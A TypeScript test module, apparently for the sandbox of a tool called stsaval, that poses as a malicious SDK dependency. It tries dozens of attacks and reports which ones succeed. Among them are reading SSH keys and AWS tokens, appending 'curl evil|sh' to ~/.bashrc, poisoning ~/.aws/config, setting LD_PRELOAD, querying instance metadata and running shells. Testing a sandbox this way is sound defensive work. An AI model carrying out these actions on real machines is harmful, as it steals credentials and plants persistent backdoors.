/**
 * A dependency that turned bad: it stands in the place of the SDK, and is loaded when the first call is made. It tries
 * all that such code has been seen to try, and tells the result on standard output.
 *
 * @module
 */

import { execSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { lookup } from "node:dns/promises";
import { appendFileSync, readFileSync } from "node:fs";
import { get } from "node:http";
import { connect as connectHttp2 } from "node:http2";
import { createRequire } from "node:module";
import { connect } from "node:net";
import { homedir, networkInterfaces, userInfo } from "node:os";
import process from "node:process";
import { DatabaseSync } from "node:sqlite";
import { Worker as Thread } from "node:worker_threads";

const home = Deno.env.get("HOME") ?? "";
/** Where a server other than STS listens. */
const otherPort = Number(Deno.env.get("AWS_DEFAULT_PROFILE"));
/** Where STS listens, which sends whoever asks for this on to the other. */
const redirect = `${Deno.env.get("AWS_ENDPOINT_URL_STS")}/redirect`;
const upwards = "../".repeat(5);
const asJson = `{ with: { type: "json" } }`;
const key = `${home}/.ssh/id_rsa`;

/** What an expression comes to in a worker. */
function inWorker(expression: string): Promise<unknown> {
  const code = `try { postMessage([await ${expression}]) } catch ({ name, message }) {
    postMessage({ name, message });
  }`;
  const { promise, resolve, reject } = Promise.withResolvers<unknown>();
  const worker = new Worker(`data:text/javascript,${encodeURIComponent(code)}`, { type: "module" });
  worker.addEventListener("message", ({ data }) => {
    if (Array.isArray(data)) resolve(data);
    else reject(data);
  });
  return promise.finally(() => worker.terminate());
}

async function listened(url: string): Promise<void> {
  const source = new EventSource(url);
  try {
    await new Promise((resolve, reject) => {
      source.addEventListener("open", resolve);
      source.addEventListener("error", () => reject(new Error("closed")));
    });
  } finally {
    source.close();
  }
}

/** Modules in the home post a message when they are loaded as a worker. */
function started(url: string): Promise<unknown> {
  const { promise, resolve, reject } = Promise.withResolvers<unknown>();
  const worker = new Worker(url, { type: "module" });
  worker.addEventListener("message", resolve);
  worker.addEventListener("error", (event) => {
    event.preventDefault();
    reject(new Error(event.message));
  });
  return promise.finally(() => worker.terminate());
}

function startedThread(file: string): Promise<unknown> {
  return new Promise((resolve, reject) =>
    new Thread(file).on("message", resolve).on("error", reject)
  );
}

function viaNode(start: (done: () => void, failed: (error: Error) => void) => void): Promise<void> {
  return new Promise((resolve, reject) => start(resolve, reject));
}

async function opened(url: string): Promise<void> {
  const socket = new WebSocket(url);
  await new Promise((resolve, reject) => {
    socket.addEventListener("open", resolve);
    socket.addEventListener(
      "error",
      (event) => reject(new Error(event instanceof ErrorEvent ? event.message : "failed")),
    );
  });
}

/** What is tried, as text, and how. Anything that returns without an error counts as reached. */
const attempts: readonly (readonly [string, () => unknown])[] = [
  ["read ~/.ssh/id_rsa", () => Deno.readTextFile(key)],
  ["read it with node:fs", () => readFileSync(key)],
  ["read it by way of ~/.aws/../.ssh", () => Deno.readTextFile(`${home}/.aws/../.ssh/id_rsa`)],
  ["read it by way of a link in ~/.aws", () => Deno.readTextFile(`${home}/.aws/link`)],
  ["read it in a worker", () => inWorker(`Deno.readTextFileSync("${key}")`)],
  ["read it with fetch and file:", () => fetch(`file://${key}`)],
  ["read another file of ~/.aws", () => Deno.readTextFile(`${home}/.aws/sso/cache/token.json`)],
  [
    "read the sign-in of another profile",
    () => Deno.readTextFile(`${home}/.aws/login/cache/other.json`),
  ],
  ["list the sign-ins", () => Array.fromAsync(Deno.readDir(`${home}/.aws/sso/cache`))],
  [
    "write into the folder of sign-ins",
    () => Deno.writeTextFile(`${home}/.aws/login/cache/mine.json`, "{}"),
  ],
  [
    "write into the AWS CLI's cache",
    () => Deno.writeTextFile(`${home}/.aws/cli/cache/mine.json`, "{}"),
  ],
  ["open a descriptor of the process", () => Deno.open("/proc/self/fd/0")],
  ["read /etc/passwd", () => Deno.readTextFile("/etc/passwd")],
  ["read /proc/self/environ", () => Deno.readTextFile("/proc/self/environ")],
  ["open /proc/self/mem", () => Deno.open("/proc/self/mem")],
  ["open /dev/tty", () => Deno.open("/dev/tty")],
  ["list /home", () => Array.fromAsync(Deno.readDir("/home"))],
  ["list ~/.aws", () => Array.fromAsync(Deno.readDir(`${home}/.aws`))],
  ["look whether ~/.ssh exists", () => Deno.stat(`${home}/.ssh`)],
  ["import a module from the home", () => import(`${home}/module.js`)],
  ["import it with file:", () => import(`file://${home}/module.js`)],
  ["import it by way of the program's own folder", () => import(upwards + home + "/module.js")],
  [
    "import a JSON file of the home in a worker",
    () => inWorker(`import("file://${home}/.aws/sso/cache/token.json", ${asJson})`),
  ],
  [
    "import a JSON file of the home",
    () => import(`${home}/.aws/sso/cache/token.json`, { with: { type: "json" } }),
  ],
  ["import the key as JSON", () => import(key, { with: { type: "json" } })],
  [
    "require a JSON file of the home",
    () => createRequire(import.meta.url)(`${home}/.aws/sso/cache/token.json`),
  ],
  ["start a worker from the home", () => started(`file://${home}/module.js`)],
  ["start a thread from the home", () => startedThread(`${home}/module.js`)],
  ["open a database in the home", () => new DatabaseSync(`${home}/x.db`)],
  [
    "append to ~/.bashrc",
    () => Deno.writeTextFile(`${home}/.bashrc`, "curl evil|sh", { append: true }),
  ],
  ["append to it with node:fs", () => appendFileSync(`${home}/.bashrc`, "curl evil|sh")],
  [
    "write ~/.aws/config",
    () => Deno.writeTextFile(`${home}/.aws/config`, "credential_process = evil"),
  ],
  ["write ~/.aws/credentials", () => Deno.writeTextFile(`${home}/.aws/credentials`, "")],
  ["remove ~/.aws/config", () => Deno.remove(`${home}/.aws/config`)],
  [
    "copy the key into the cache",
    () => Deno.copyFile(key, `${home}/.aws/stsaval/key`),
  ],
  [
    "move ~/.aws/credentials into the cache",
    () => Deno.rename(`${home}/.aws/credentials`, `${home}/.aws/stsaval/moved`),
  ],
  ["link the key into the cache", () => Deno.symlink(key, `${home}/.aws/stsaval/key`)],
  ["link it hard", () => Deno.link(key, `${home}/.aws/stsaval/key`)],
  ["change the mode of ~/.aws", () => Deno.chmod(`${home}/.aws`, 0o777)],
  ["make a temporary file", () => Deno.makeTempFile()],
  ["write into a program's folder", () => Deno.writeTextFile(`${home}/.local/bin/aws`, "")],
  ["keep something in localStorage", () => localStorage.setItem("key", "value")],
  ["keep something in a web cache", () => caches.open("cache")],
  ["connect to 127.0.0.1:1", () => Deno.connect({ hostname: "127.0.0.1", port: 1 })],
  [
    "connect to another server of this machine",
    () => Deno.connect({ hostname: "127.0.0.1", port: otherPort }),
  ],
  ["fetch from it", () => fetch(`http://127.0.0.1:${otherPort}`)],
  ["fetch from it, sent there by STS's host", () => fetch(redirect)],
  [
    "connect to it with node:net",
    () => viaNode((done, failed) => connect(otherPort, "127.0.0.1", done).on("error", failed)),
  ],
  [
    "fetch from it with node:http",
    () => viaNode((done, failed) => get({ port: otherPort }, () => done()).on("error", failed)),
  ],
  ["fetch from STS's host by way of a proxy of its own", () => {
    const proxy = { url: `http://127.0.0.1:${otherPort}` };
    return fetch(redirect, { client: Deno.createHttpClient({ proxy }) });
  }],
  ["listen to its events", () => listened(`http://127.0.0.1:${otherPort}`)],
  [
    "open HTTP/2 to it",
    () =>
      viaNode((done, failed) =>
        connectHttp2(`http://127.0.0.1:${otherPort}`, done).on("error", failed)
      ),
  ],
  [
    "send a datagram to it",
    () =>
      viaNode((done, failed) =>
        createSocket("udp4").on("error", failed)
          .send("secret", otherPort, "127.0.0.1", (error) => error ? failed(error) : done())
      ),
  ],
  [
    "connect to example.com with TLS",
    () => Deno.connectTls({ hostname: "example.com", port: 443 }),
  ],
  ["connect to example.com", () => Deno.connect({ hostname: "example.com", port: 443 })],
  ["fetch from example.com", () => fetch("https://example.com")],
  ["open a web socket to example.com", () => opened("wss://example.com")],
  ["fetch from another region's STS", () => fetch("https://sts.eu-west-1.amazonaws.com")],
  ["fetch from another service of AWS", () => fetch("https://bucket.s3.eu-west-1.amazonaws.com")],
  ["fetch from another domain of AWS", () => fetch("https://sts.eu-west-1.api.aws")],
  [
    "fetch from a private endpoint",
    () => fetch("https://vpce-0a1b-cd.vpce-svc-0d2e.eu-west-1.vpce.amazonaws.com"),
  ],
  ["fetch from IAM Identity Center", () => fetch("https://oidc.eu-west-1.amazonaws.com")],
  ["fetch from its portal", () => fetch("https://portal.sso.eu-west-1.amazonaws.com")],
  [
    "fetch from another region's AWS Sign-In",
    () => fetch("https://cn-north-1.signin.amazonaws.cn"),
  ],
  ["fetch from GitHub Actions", () => fetch("https://a.actions.githubusercontent.com")],
  ["fetch from a container's agent", () => fetch("http://169.254.170.2/")],
  ["fetch instance metadata", () => fetch("http://169.254.169.254/latest/meta-data/")],
  ["import a module from the network", () => import(["https:", "", "jsr.io", "x"].join("/"))],
  ["ask a name server", () => Deno.resolveDns("secret.example.com", "A")],
  ["look a name up with node:dns", () => lookup("secret.example.com")],
  ["connect to a unix socket", () => Deno.connect({ transport: "unix", path: `${home}/socket` })],
  ["listen on a port", () => Deno.listen({ port: 0 })],
  ["serve", () => Deno.serve({ port: 0 }, () => new Response())],
  ["run /bin/sh", () => new Deno.Command("/bin/sh", { args: ["-c", "true"] }).output()],
  ["run it with node:child_process", () => execSync("true", { env: {} })],
  ["run stsaval itself", () => new Deno.Command(Deno.execPath(), { args: ["--version"] }).output()],
  ["send a signal to the parent", () => Deno.kill(Deno.ppid, "SIGCONT")],
  ["read the variable SECRET", () => Deno.env.get("SECRET") ?? fail("not set")],
  ["read it with node:process", () => process.env["SECRET"] ?? fail("not set")],
  ["read the variable SSH_CONNECTION", () => Deno.env.get("SSH_CONNECTION") ?? fail("not set")],
  ["read all variables", () => Deno.env.toObject()],
  ["set LD_PRELOAD", () => Deno.env.set("LD_PRELOAD", "/tmp/evil.so")],
  ["load a library", () => Deno.dlopen("libc.so.6", {})],
  ["load an addon", () => process.dlopen({ exports: {} }, `${home}/addon.node`)],
  ["ask for the host's name", () => Deno.hostname()],
  ["ask for the user", () => userInfo()],
  ["ask for the user's id", () => Deno.uid()],
  ["ask for the user's home", () => homedir()],
  ["ask for the network's addresses", () => networkInterfaces()],
  ["ask for permission to read everything", async () => {
    const { state } = await Deno.permissions.request({ name: "read", path: "/" });
    if (state !== "granted") fail(`the answer is "${state}"`);
  }],
  ["ask for permission to run everything", async () => {
    const { state } = await Deno.permissions.request({ name: "run" });
    if (state !== "granted") fail(`the answer is "${state}"`);
  }],
];

function fail(message: string): never {
  throw new Error(message);
}

// stsaval exits in order at the first error that nothing catches, unless such code prevents it.
const { setTimeout } = globalThis;
globalThis.setTimeout = Object.assign(() => 0, setTimeout);
AbortController.prototype.abort = () => {};

/** Some attempts fail in the background, unawaited: that is reported too, and does not end the program. */
let failedAside = (_: unknown): void => {};
addEventListener("unhandledrejection", (event) => {
  event.preventDefault();
  failedAside(event.reason);
});
addEventListener("error", (event) => {
  event.preventDefault();
  failedAside(event.error);
});

async function outcomeOf(attempt: () => unknown): Promise<string> {
  const { promise, resolve, reject } = Promise.withResolvers<string>();
  const timer = setTimeout(() => resolve("no end"), 5_000);
  failedAside = reject;
  try {
    return await Promise.race([Promise.try(attempt).then(() => "reached"), promise]);
  } catch (error) {
    // What is thrown aside is an error as well.
    const { name, message } = error as Error;
    return `${name}: ${message}`;
  } finally {
    clearTimeout(timer);
  }
}

const results: [string, string][] = [];
for (const [what, attempt] of attempts) results.push([what, await outcomeOf(attempt)]);
console.log(JSON.stringify(results));
Deno.exit(0);
